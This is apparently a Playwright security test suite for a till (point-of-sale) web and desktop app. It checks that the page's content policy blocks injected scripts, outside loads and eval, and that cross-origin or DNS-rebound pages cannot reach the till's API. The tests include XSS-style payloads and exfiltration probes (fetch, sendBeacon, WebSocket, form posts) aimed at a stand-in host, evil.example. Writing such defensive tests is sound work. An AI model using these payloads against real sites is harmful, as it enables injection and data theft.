// What somebody tries who gets a line of their own into the till's page, or a page of their own
// into the same browser. On both hosts where both can be tried; each attempt must fail by the
// policy the page runs under, not by luck.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { findBrowser } from '../../build/browser.mjs';
import { pageHeaders } from '../../electron/core/page-policy.ts';
import { expect, test, type RunningTill } from './host.ts';

test.describe.configure({ timeout: 90_000 });

const EVIL = 'kasir-murah.example';
/** A name of an attacker that points to the till's own machine. */
const REBOUND = [`--host-resolver-rules=MAP ${EVIL} 127.0.0.1`];
const browser = findBrowser();
test.use({
  launchOptions: {
    args: REBOUND,
    ...(browser === undefined ? {} : { executablePath: browser }),
  },
});

/** Tries one thing within the page and says what the page's policy refused of it. */
function refused(page: Page, attempt: string): Promise<string[]> {
  return page.evaluate(async (code) => {
    const rules: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      rules.push(effectiveDirective);
    });
    const holder = document.createElement('div');
    document.body.append(holder);
    const put = (tag: string, attributes: Record<string, string>, text = ''): void => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      made.textContent = text;
      holder.append(made);
    };
    const attempts: Record<string, () => unknown> = {
      'inline script': () => put('script', {}, 'window.isHacked = true'),
      'inline handler': () => put('img', { src: 'x.png', onerror: 'window.isHacked = true' }),
      'inline style': () => put('style', {}, 'body { display: none }'),
      'script from elsewhere': () => put('script', { src: 'https://evil.example/x.js' }),
      'data script': () => put('script', { src: 'data:text/javascript,window.isHacked=true' }),
      'style from elsewhere': () =>
        put('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
      'picture from elsewhere': () => put('img', { src: 'https://evil.example/x.png' }),
      'sound from elsewhere': () => put('audio', { src: 'https://evil.example/x.mp3' }),
      frame: () => put('iframe', { src: 'https://evil.example/' }),
      'frame of itself': () => put('iframe', { src: '/' }),
      object: () => put('object', { data: 'https://evil.example/x.pdf' }),
      'letter home': () => fetch('https://evil.example/').catch(() => undefined),
      'beacon home': () => navigator.sendBeacon('https://evil.example/', 'x'),
      'line home': () => new WebSocket('wss://evil.example/'),
      'events from home': () => new EventSource('https://evil.example/'),
      'worker out of nothing': () => new Worker(URL.createObjectURL(new Blob(['1']))),
      'another base': () => put('base', { href: 'https://evil.example/' }),
      'form sent home': () => {
        put('form', { action: 'https://evil.example/', method: 'post' });
        holder.querySelector('form')?.submit();
      },
      'text as code': () =>
        Reflect.apply(setTimeout, window, ['window.isHacked = true']) as unknown,
    };
    try {
      attempts[code]?.();
    } catch {
      // Refused by an error instead of an event; the event comes too.
    }
    for (let turn = 0; turn < 100 && rules.length === 0; turn += 1)
      await new Promise((done) => setTimeout(done, 20));
    holder.remove();
    return [...new Set(rules)];
  }, attempt);
}

const ATTEMPTS: readonly (readonly [string, RegExp])[] = [
  ['inline script', /^script-src/],
  ['inline handler', /^script-src/],
  ['inline style', /^style-src/],
  ['script from elsewhere', /^script-src/],
  ['data script', /^script-src/],
  ['style from elsewhere', /^style-src/],
  ['picture from elsewhere', /^img-src$/],
  ['sound from elsewhere', /^media-src$/],
  ['frame', /^frame-src$/],
  ['frame of itself', /^frame-src$/],
  ['object', /^object-src$/],
  ['letter home', /^connect-src$/],
  ['beacon home', /^connect-src$/],
  ['line home', /^connect-src$/],
  ['events from home', /^connect-src$/],
  ['worker out of nothing', /^worker-src$/],
  ['another base', /^base-uri$/],
  ['form sent home', /^form-action$/],
  ['text as code', /^script-src/],
];

test('a strange line in the page loads nothing, runs nothing and tells nobody', async ({
  till: { page },
}) => {
  for (const [attempt, rule] of ATTEMPTS)
    await test.step(attempt, async () => {
      expect((await refused(page, attempt)).join(), attempt).toMatch(rule);
    });
  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
});

test('the page runs no text as code, and no WebAssembly', async ({ till: { page } }) => {
  const names = await page.evaluate(
    () =>
      // In a turn of its own: what the test's own hand runs is not held to the policy.
      new Promise<string[]>((done) => {
        const tryAll = async (): Promise<void> => {
          const nameOf = (error: unknown): string => (error as Error).name;
          const of = (run: () => unknown): string => {
            try {
              run();
              return 'it ran';
            } catch (error) {
              return nameOf(error);
            }
          };
          const empty = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
          done([
            // oxlint-disable-next-line no-eval -- that is what is tried
            of(() => (0, eval)('1')),
            of(() => Reflect.construct(Function, ['return 1']) as unknown),
            await WebAssembly.compile(empty).then(() => 'it ran', nameOf),
          ]);
        };
        setTimeout(() => void tryAll());
      }),
  );
  expect(names).toEqual(['EvalError', 'EvalError', 'CompileError']);
});

test('what is served says the same policy to every file', async ({ till }) => {
  const host = till.desktop === null ? new URL(till.page.url()).host : null;
  for (const path of ['/', '/icon.svg', '/nothing.js']) {
    const said = await till.page.evaluate(async (asked) => {
      const { headers } = await fetch(asked);
      return Object.fromEntries(headers);
    }, path);
    expect(said).toMatchObject(pageHeaders(path, host));
  }
});

test('the page knows nothing of Node, of Electron, or of a key', async ({ till: { page } }) => {
  const found = await page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter(
      (name) => name in window,
    ),
  );
  expect(found).toEqual([]);
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, document.cookie]));
  const { length } = await page.evaluate(() => document.documentElement.outerHTML);
  expect(length).toBeGreaterThan(0);
  expect(kept).not.toMatch(/apiKey|merchantKey|token/i);
});

test.describe('a page of somebody else in the same browser', () => {
  let evil: Server;
  let evilPort = 0;

  test.beforeAll(async () => {
    evil = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end('<title>Kasir murah</title>');
    });
    await new Promise<void>((ready) => evil.listen(0, '127.0.0.1', ready));
    evilPort = (evil.address() as AddressInfo).port;
  });
  test.afterAll(() => new Promise((closed) => evil.close(closed)));

  /** Opens the page beside the till's own, with all cookies of that browser. */
  async function beside(till: RunningTill, address: string): Promise<Page> {
    const page = await till.page.context().newPage();
    await page.goto(address);
    return page;
  }

  for (const name of ['127.0.0.1', 'localhost', EVIL])
    test(`at ${name} gets neither the till's line nor its answers`, async ({ till }, info) => {
      test.skip(info.project.name !== 'web', 'the desktop has no port');
      const { host } = new URL(till.page.url());
      const page = await beside(till, `http://${name}:${evilPort}/`);
      const outcome = await page.evaluate(async (address) => {
        const line = new Promise<string>((done) => {
          const socket = new WebSocket(`ws://${address}/rpc`);
          socket.addEventListener('open', () => done('open'));
          socket.addEventListener('error', () => done('shut'));
        });
        const read = (path: string, init: RequestInit): Promise<string> =>
          fetch(`http://${address}${path}`, init).then(
            (response) => response.type,
            () => 'unread',
          );
        const credentials = 'include' as const;
        const headers = { 'content-type': 'application/json' };
        return [
          await line,
          await read('/', { credentials }),
          await read('/v1/sales', { credentials, method: 'POST', headers, body: '{"amount":1}' }),
          await read('/v1/health', {}),
        ];
      }, host);
      expect(outcome).toEqual(['shut', 'unread', 'unread', 'unread']);
    });

  test('whose name was pointed at this PC is not the till', async ({ till }, info) => {
    test.skip(info.project.name !== 'web', 'the desktop has no port');
    const { port } = new URL(till.page.url());
    const page = await beside(till, `http://${EVIL}:${port}/`);
    await expect(page.getByText('This address is not the till.')).toBeVisible();
    const answer = await page.evaluate(() => fetch('/v1/health').then(({ status }) => status));
    expect(answer).toBe(403);
  });

  test('shows no till of its own inside a frame', async ({ till }, info) => {
    test.skip(info.project.name !== 'web', 'the desktop has no port');
    const page = await beside(till, `http://127.0.0.1:${evilPort}/`);
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, till.page.url());
    await expect.poll(() => page.frames().length).toBe(2);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });
});
